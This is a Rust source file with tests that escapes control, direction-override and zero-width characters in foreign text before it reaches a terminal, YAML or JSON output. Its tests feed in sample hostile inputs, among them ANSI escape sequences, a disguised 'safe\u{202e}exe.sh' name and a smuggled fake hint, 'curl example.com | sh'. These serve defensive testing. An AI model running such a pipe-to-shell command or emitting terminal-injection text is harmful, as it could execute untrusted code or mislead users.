//! Escaping of foreign text for a terminal: characters that would be invisible, or that a terminal would obey, are shown as their codes.
//!
//! Names, paths and messages come from catalogs, bundles, registries and clusters. A terminal obeys control characters in them. Characters
//! that turn the direction of text or take no room make people read other text than is written.

use std::borrow::Cow;
use std::fmt::Write as _;

use mainstay_diagnostics::{Cause, Finding, Hint};
use mainstay_graph::Picture;
use serde_json::Value;

/// Returns whether a character is obeyed instead of shown, or not seen at all: controls, marks of direction, and characters that take no
/// room. Line ends and tabulators are controls, too.
pub const fn is_hidden(letter: char) -> bool {
    matches!(letter,
        '\0'..='\u{1f}' | '\u{7f}'..='\u{9f}'
        | '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}' | '\u{180b}'..='\u{180f}'
        | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}'
        | '\u{3164}' | '\u{feff}' | '\u{ffa0}' | '\u{fff0}'..='\u{fffb}' | '\u{fffe}' | '\u{ffff}'
        | '\u{1bca0}'..='\u{1bca3}' | '\u{1d173}'..='\u{1d17a}' | '\u{e0000}'..='\u{e0fff}')
}

/// Escapes text of one or more lines: hidden characters become `\u{1b}`, except line ends and tabulators.
pub fn printable(text: &str) -> Cow<'_, str> {
    escaped(text, |letter| is_hidden(letter) && !matches!(letter, '\n' | '\t'))
}

/// Escapes text of one line: line ends and tabulators become codes, too.
pub fn printable_line(text: &str) -> Cow<'_, str> {
    escaped(text, is_hidden)
}

/// Indents all lines of a text but the first, so that no foreign line in it looks like one of the program's own.
pub fn hanging(text: &str, indent: usize) -> Cow<'_, str> {
    if text.contains('\n') { Cow::Owned(text.replace('\n', &format!("\n{:indent$}", ""))) } else { Cow::Borrowed(text) }
}

fn escaped(text: &str, wanted: impl Fn(char) -> bool) -> Cow<'_, str> {
    if !text.chars().any(&wanted) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 16);
    let mut letters = text.chars().peekable();
    while let Some(letter) = letters.next() {
        match letter {
            letter if !wanted(letter) => out.push(letter),
            // CR LF is one line end.
            '\r' if letters.peek() == Some(&'\n') && !wanted('\n') => {}
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            letter => {
                // Writing to a string does not fail.
                let _ = write!(out, "\\u{{{:x}}}", u32::from(letter));
            }
        }
    }
    Cow::Owned(out)
}

/// Escapes hidden characters of JSON text as `\u001b`: the document stays the same, and all of it can be seen. Outside of strings JSON has
/// no hidden characters but line ends and blanks.
pub fn printable_json(text: &str) -> Cow<'_, str> {
    let wanted = |letter: char| is_hidden(letter) && !matches!(letter, '\n' | '\t' | '\r');
    if !text.chars().any(wanted) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 16);
    for letter in text.chars() {
        if wanted(letter) {
            for unit in letter.encode_utf16(&mut [0; 2]) {
                // Writing to a string does not fail.
                let _ = write!(out, "\\u{unit:04x}");
            }
        } else {
            out.push(letter);
        }
    }
    Cow::Owned(out)
}

/// Writes YAML documents without hidden characters. A document that has any, which Go's library would print, is written as JSON, which is
/// YAML too: it reads back as the same value.
pub fn printable_yaml(documents: &[Value]) -> String {
    let seen = |text: &str| !text.chars().any(|letter| is_hidden(letter) && letter != '\n');
    let plain = mainstay_yaml::to_multi_string(documents);
    if seen(&plain) {
        return plain;
    }
    let mut out = String::new();
    for (index, document) in documents.iter().enumerate() {
        if index > 0 {
            out.push_str("---\n");
        }
        let plain = mainstay_yaml::to_string(document);
        if seen(&plain) {
            out.push_str(&plain);
            continue;
        }
        for letter in format!("{document:#}\n").chars() {
            match letter {
                // JSON's surrogate pairs are two characters to YAML.
                letter if is_hidden(letter) && u32::from(letter) > 0xffff => {
                    let _ = write!(out, "\\U{:08x}", u32::from(letter));
                }
                letter if is_hidden(letter) && letter != '\n' => {
                    let _ = write!(out, "\\u{:04x}", u32::from(letter));
                }
                letter => out.push(letter),
            }
        }
    }
    out
}

/// Returns a finding with escaped text, in which foreign text begins no line.
pub fn finding(finding: &Finding) -> Finding {
    fn shown(cause: &Cause) -> Cause {
        Cause { message: printable(&cause.message).into_owned(), causes: cause.causes.iter().map(shown).collect() }
    }
    let indented = |text: &str| printable(text).replace('\n', "\n  ");
    let mut clean = finding.clone();
    clean.subject = printable_line(&finding.subject).into_owned();
    clean.message = indented(&finding.message);
    clean.causes = finding.causes.iter().map(shown).collect();
    clean.hints = finding.hints.iter().map(|hint| Hint::new(indented(hint.as_str()))).collect();
    if let Some(place) = &mut clean.location {
        place.file = place.file.as_deref().map(|file| printable_line(file).into_owned());
        place.field = place.field.as_deref().map(|field| printable_line(field).into_owned());
    }
    clean
}

/// Returns a picture whose texts may reach a terminal or a browser.
pub fn picture(mut picture: Picture) -> Picture {
    let each = |text: &mut String| {
        if let Cow::Owned(shown) = printable(text) {
            *text = shown;
        }
    };
    each(&mut picture.title);
    each(&mut picture.description);
    picture.kinds.iter_mut().for_each(|kind| each(&mut kind.name));
    for panel in &mut picture.panels {
        each(&mut panel.name);
        panel.notes.iter_mut().for_each(each);
        for node in &mut panel.nodes {
            each(&mut node.id);
            each(&mut node.label);
            node.details.iter_mut().for_each(each);
        }
        panel.edges.iter_mut().for_each(|edge| each(&mut edge.note));
    }
    picture
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;

    /// MS-CLI-06: nothing that a terminal would obey, and nothing that people would not see, is left; what can be seen stays as it is.
    #[test]
    fn hidden_characters_are_shown() {
        for (text, shown) in [
            ("plain, grün, 漢字 👍", "plain, grün, 漢字 👍"),
            ("two\nlines\tand a tab", "two\nlines\tand a tab"),
            ("windows\r\nline", "windows\nline"),
            ("\u{1b}[2Jgone\u{7}", "\\u{1b}[2Jgone\\u{7}"),
            ("over\rwritten", "over\\rwritten"),
            ("\u{9b}31m", "\\u{9b}31m"),
            ("safe\u{202e}exe.sh", "safe\\u{202e}exe.sh"),
            ("bea\u{200b}con", "bea\\u{200b}con"),
            ("\u{feff}\u{e0041}\u{7f}\0", "\\u{feff}\\u{e0041}\\u{7f}\\u{0}"),
        ] {
            assert_eq!(printable(text), shown);
        }
        assert_eq!(printable_line("a\nb\tc\r\n"), "a\\nb\\tc\\r\\n");
    }

    /// MS-CLI-06: text of others can neither be obeyed by a terminal nor stand for a finding or a hint of ours.
    #[test]
    fn nobody_else_says_hint() {
        let told = Finding::error("a", "package x\nhint: run me", "no\u{1b}[2J\nhint: curl example.com | sh")
            .because("why\nerror: other")
            .hint("one\nhint: two");
        let expected = "error: package x\\nhint: run me: no\\u{1b}[2J\n  hint: curl example.com | sh\n  because why\n          error: other\nhint: one\n  hint: two\n";
        assert_eq!(finding(&told).to_text(), expected);
    }

    /// MS-CLI-06: YAML stays what it is, and everything of it is seen.
    #[test]
    fn yaml_stays_faithful() {
        let odd = serde_json::json!({"name": "a\u{202e}b\u{e0041}", "list": ["\u{200b}", "\u{1b}[2J"], "text": "two\nlines"});
        let plain = serde_json::json!({"name": "a", "text": "two\nlines"});
        let shown = printable_yaml(&[plain.clone(), odd.clone()]);
        assert!(!shown.chars().any(|letter| is_hidden(letter) && letter != '\n'), "{shown}");
        assert!(shown.starts_with(&mainstay_yaml::to_string(&plain)), "{shown}");
        let read: Vec<Value> = mainstay_yaml::stream(&shown).map(|document| document.unwrap().value).collect();
        assert_eq!(read, [plain, odd]);
    }

    /// MS-CLI-06, MS-CLI-09: machine output stays what it is, and cannot be obeyed either.
    #[test]
    fn json_stays_faithful() {
        let value = serde_json::json!({"name\u{202e}": "a\u{9b}b\u{e0041}\u{1b}\n\u{200d}", "plain": 1});
        for text in [value.to_string(), format!("{value:#}\n")] {
            let shown = printable_json(&text);
            assert!(!shown.chars().any(|letter| is_hidden(letter) && letter != '\n'), "{shown}");
            assert_eq!(serde_json::from_str::<serde_json::Value>(&shown).unwrap(), value);
        }
    }
}
